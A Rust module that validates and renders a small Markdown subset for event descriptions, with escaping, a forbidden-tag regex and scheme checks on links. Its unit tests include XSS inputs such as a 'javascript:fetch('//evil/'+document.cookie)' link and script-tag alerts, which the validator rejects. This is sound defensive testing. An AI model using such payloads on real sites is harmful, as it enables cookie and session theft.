//! Description markup validation and HTML rendering.
//!
//! # Responsibility
//! - Decide whether a description is valid markup.
//! - Render valid markup to escaped HTML.
//! - Provide the render cache stored on each event.
//!
//! # Invariants
//! - Rendering never runs on input that fails [`validate`].
//! - All user text is HTML-escaped before inline formatting is applied.
//!
//! The dialect is a small Markdown subset: ATX headings, paragraphs,
//! fenced code blocks, `*em*`, `**strong**`, `` `code` `` and
//! `[text](target)` links. Link targets may nest one level of balanced
//! parentheses, as in `[x](https://en.wikipedia.org/wiki/Foo_(bar))`, and
//! must be `http:`, `https:`, `mailto:` or relative.

use once_cell::sync::Lazy;
use regex::Regex;
use std::error::Error;
use std::fmt::{Display, Formatter};

static FORBIDDEN_TAG_RE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?i)<\s*(script|style|iframe)\b").expect("valid forbidden tag regex")
});
static EMPTY_LINK_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\[([^\]]*)\]\(\s*\)").expect("valid empty link regex"));
static HEADING_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^(#{1,6})\s+(.*?)\s*#*\s*$").expect("valid heading regex"));
static CODE_SPAN_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"`([^`]+)`").expect("valid code span regex"));
static LINK_RE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"\[([^\]]+)\]\(((?:[^()\s]|\([^()\s]*\))+)\)").expect("valid link regex")
});
static LINK_TARGET_RE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"^\]\(((?:[^()\s]|\([^()\s]*\))+)\)").expect("valid link target regex")
});
static STRONG_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\*\*([^*]+)\*\*").expect("valid strong regex"));
static EM_RE: Lazy<Regex> = Lazy::new(|| Regex::new(r"\*([^*]+)\*").expect("valid em regex"));

const CODE_FENCE: &str = "```";
const SAFE_LINK_SCHEMES: &[&str] = &["http:", "https:", "mailto:"];

/// Markup rejection reason.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MarkupError {
    /// A code fence opened on `line` (1-based) is never closed.
    UnterminatedCodeFence { line: usize },
    /// Raw HTML tag that is never allowed in descriptions.
    ForbiddenTag(String),
    /// `[text]()` link without a target.
    EmptyLinkTarget(String),
    /// Link target with a scheme outside `http`, `https` and `mailto`.
    UnsafeLinkTarget(String),
}

impl Display for MarkupError {
    fn fmt(&self, f: &mut Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::UnterminatedCodeFence { line } => {
                write!(f, "code fence opened on line {line} is never closed")
            }
            Self::ForbiddenTag(tag) => write!(f, "raw `<{tag}>` tags are not allowed"),
            Self::EmptyLinkTarget(text) => write!(f, "link `{text}` has an empty target"),
            Self::UnsafeLinkTarget(target) => {
                write!(f, "link target `{target}` uses a scheme that is not allowed")
            }
        }
    }
}

impl Error for MarkupError {}

/// Checks that `source` is valid description markup.
pub fn validate(source: &str) -> Result<(), MarkupError> {
    if let Some(captures) = FORBIDDEN_TAG_RE.captures(source) {
        return Err(MarkupError::ForbiddenTag(captures[1].to_ascii_lowercase()));
    }
    if let Some(captures) = EMPTY_LINK_RE.captures(source) {
        return Err(MarkupError::EmptyLinkTarget(captures[1].to_string()));
    }

    let mut open_fence = None;
    for (index, line) in source.lines().enumerate() {
        if is_fence(line) {
            open_fence = match open_fence {
                Some(_) => None,
                None => Some(index + 1),
            };
        } else if open_fence.is_none() {
            check_link_targets(line)?;
        }
    }
    if let Some(line) = open_fence {
        return Err(MarkupError::UnterminatedCodeFence { line });
    }

    Ok(())
}

/// Renders `source` to HTML.
///
/// Blocks are joined with `\n`; paragraph lines are joined with a space.
pub fn render_html(source: &str) -> Result<String, MarkupError> {
    validate(source)?;

    let mut blocks = Vec::new();
    let mut paragraph: Vec<&str> = Vec::new();
    let mut code: Option<Vec<&str>> = None;

    for line in source.lines() {
        if let Some(code_lines) = code.as_mut() {
            if is_fence(line) {
                blocks.push(format!(
                    "<pre><code>{}</code></pre>",
                    escape_html(&code_lines.join("\n"))
                ));
                code = None;
            } else {
                code_lines.push(line);
            }
            continue;
        }

        if is_fence(line) {
            flush_paragraph(&mut paragraph, &mut blocks);
            code = Some(Vec::new());
        } else if line.trim().is_empty() {
            flush_paragraph(&mut paragraph, &mut blocks);
        } else if let Some(captures) = HEADING_RE.captures(line.trim()) {
            flush_paragraph(&mut paragraph, &mut blocks);
            let level = captures[1].len();
            blocks.push(format!(
                "<h{level}>{}</h{level}>",
                render_inline(&captures[2])
            ));
        } else {
            paragraph.push(line.trim());
        }
    }
    flush_paragraph(&mut paragraph, &mut blocks);

    Ok(blocks.join("\n"))
}

/// Rendered HTML together with the source it was rendered from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CachedHtml {
    source: String,
    html: String,
}

impl CachedHtml {
    /// Renders `source` into a new cache entry.
    pub fn render(source: &str) -> Result<Self, MarkupError> {
        Ok(Self {
            source: source.to_string(),
            html: render_html(source)?,
        })
    }

    /// Rebuilds a cache entry from persisted columns.
    pub(crate) fn from_parts(source: &str, html: String) -> Self {
        Self {
            source: source.to_string(),
            html,
        }
    }

    /// Returns whether this entry was rendered from `source`.
    pub fn is_fresh_for(&self, source: &str) -> bool {
        self.source == source
    }

    pub fn html(&self) -> &str {
        &self.html
    }
}

/// Checks every `](target)` on `line`, including ones inside code spans.
///
/// Targets never contain whitespace, so each one sits on a single line
/// even when its link text spans several.
fn check_link_targets(line: &str) -> Result<(), MarkupError> {
    for (start, _) in line.match_indices("](") {
        if let Some(captures) = LINK_TARGET_RE.captures(&line[start..]) {
            let target = &captures[1];
            if !is_safe_link_target(target) {
                return Err(MarkupError::UnsafeLinkTarget(target.to_string()));
            }
        }
    }
    Ok(())
}

fn is_safe_link_target(target: &str) -> bool {
    if target.chars().any(char::is_control) {
        return false;
    }
    let lowered = target.to_ascii_lowercase();
    if SAFE_LINK_SCHEMES
        .iter()
        .any(|scheme| lowered.starts_with(scheme))
    {
        return true;
    }
    // Relative targets have no `:` before the first path, query or fragment delimiter.
    let head = target.split(['/', '?', '#']).next().unwrap_or_default();
    !head.contains(':')
}

fn is_fence(line: &str) -> bool {
    line.trim_start().starts_with(CODE_FENCE)
}

fn flush_paragraph(paragraph: &mut Vec<&str>, blocks: &mut Vec<String>) {
    if paragraph.is_empty() {
        return;
    }
    blocks.push(format!("<p>{}</p>", render_inline(&paragraph.join(" "))));
    paragraph.clear();
}

fn render_inline(text: &str) -> String {
    let mut rendered = String::with_capacity(text.len());
    let mut cursor = 0;

    for captures in CODE_SPAN_RE.captures_iter(text) {
        let Some(span) = captures.get(0) else {
            continue;
        };
        rendered.push_str(&format_inline(&text[cursor..span.start()]));
        rendered.push_str("<code>");
        rendered.push_str(&escape_html(&captures[1]));
        rendered.push_str("</code>");
        cursor = span.end();
    }
    rendered.push_str(&format_inline(&text[cursor..]));

    rendered
}

fn format_inline(text: &str) -> String {
    let escaped = escape_html(text);
    let linked = LINK_RE.replace_all(&escaped, r#"<a href="$2">$1</a>"#);
    let strong = STRONG_RE.replace_all(&linked, "<strong>$1</strong>");
    EM_RE.replace_all(&strong, "<em>$1</em>").into_owned()
}

fn escape_html(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use super::{render_html, validate, CachedHtml, MarkupError};

    #[test]
    fn validate_accepts_plain_text_and_closed_fences() {
        validate("Meet at the harbor.").unwrap();
        validate("```\nlet x = 1;\n```").unwrap();
        validate("").unwrap();
    }

    #[test]
    fn validate_rejects_unterminated_fence() {
        let err = validate("intro\n\n```\ncode").unwrap_err();
        assert_eq!(err, MarkupError::UnterminatedCodeFence { line: 3 });
    }

    #[test]
    fn validate_rejects_forbidden_tags_case_insensitively() {
        let err = validate("hi <SCRIPT>alert(1)</SCRIPT>").unwrap_err();
        assert_eq!(err, MarkupError::ForbiddenTag("script".to_string()));
    }

    #[test]
    fn validate_rejects_empty_link_target() {
        let err = validate("see [the map]( )").unwrap_err();
        assert_eq!(err, MarkupError::EmptyLinkTarget("the map".to_string()));
    }

    #[test]
    fn validate_rejects_script_link_targets() {
        let err = validate("[map](javascript:fetch('//evil/'+document.cookie))").unwrap_err();
        assert_eq!(
            err,
            MarkupError::UnsafeLinkTarget("javascript:fetch('//evil/'+document.cookie)".to_string())
        );

        assert!(matches!(
            validate("see [x](JavaScript:alert(1))"),
            Err(MarkupError::UnsafeLinkTarget(_))
        ));
        assert!(matches!(
            validate("# [x](data:text/html,hi)"),
            Err(MarkupError::UnsafeLinkTarget(_))
        ));
        assert!(matches!(
            validate("[x](\u{1}javascript:alert(1))"),
            Err(MarkupError::UnsafeLinkTarget(_))
        ));
        assert!(render_html("[map](javascript:alert(1))").is_err());
    }

    #[test]
    fn validate_accepts_web_mail_and_relative_targets() {
        validate("[a](https://example.org) [b](http://example.org/x?y=1)").unwrap();
        validate("[c](mailto:host@example.org) [d](/events/42) [e](#agenda)").unwrap();
        validate("[f](maps/boston?at=10:30)").unwrap();
    }

    #[test]
    fn link_targets_are_checked_outside_fenced_code() {
        validate("```\n[x](javascript:alert(1))\n```").unwrap();
        assert!(matches!(
            validate("`[x](javascript:alert(1))`"),
            Err(MarkupError::UnsafeLinkTarget(_))
        ));
        assert!(matches!(
            validate("a `b\n`[l](javascript:x)` d`"),
            Err(MarkupError::UnsafeLinkTarget(_))
        ));
        assert!(matches!(
            validate("[split\ntext](javascript:x)"),
            Err(MarkupError::UnsafeLinkTarget(_))
        ));
    }

    #[test]
    fn link_targets_keep_balanced_parentheses() {
        let html = render_html("[Foo](https://en.wikipedia.org/wiki/Foo_(bar)) rocks").unwrap();
        assert_eq!(
            html,
            "<p><a href=\"https://en.wikipedia.org/wiki/Foo_(bar)\">Foo</a> rocks</p>"
        );
    }

    #[test]
    fn render_handles_blocks_and_inline_formatting() {
        let html = render_html(
            "# Harbor walk\n\nBring **boots** and a *map*.\nSee [site](https://example.org).\n\n```\n<b>raw</b>\n```",
        )
        .unwrap();

        assert_eq!(
            html,
            "<h1>Harbor walk</h1>\n\
             <p>Bring <strong>boots</strong> and a <em>map</em>. See <a href=\"https://example.org\">site</a>.</p>\n\
             <pre><code>&lt;b&gt;raw&lt;/b&gt;</code></pre>"
        );
    }

    #[test]
    fn render_escapes_text_and_code_spans() {
        let html = render_html("1 < 2 & `*not em*`").unwrap();
        assert_eq!(html, "<p>1 &lt; 2 &amp; <code>*not em*</code></p>");
    }

    #[test]
    fn cache_freshness_tracks_source() {
        let cache = CachedHtml::render("hello").unwrap();
        assert!(cache.is_fresh_for("hello"));
        assert!(!cache.is_fresh_for("hello!"));
        assert_eq!(cache.html(), "<p>hello</p>");
    }
}
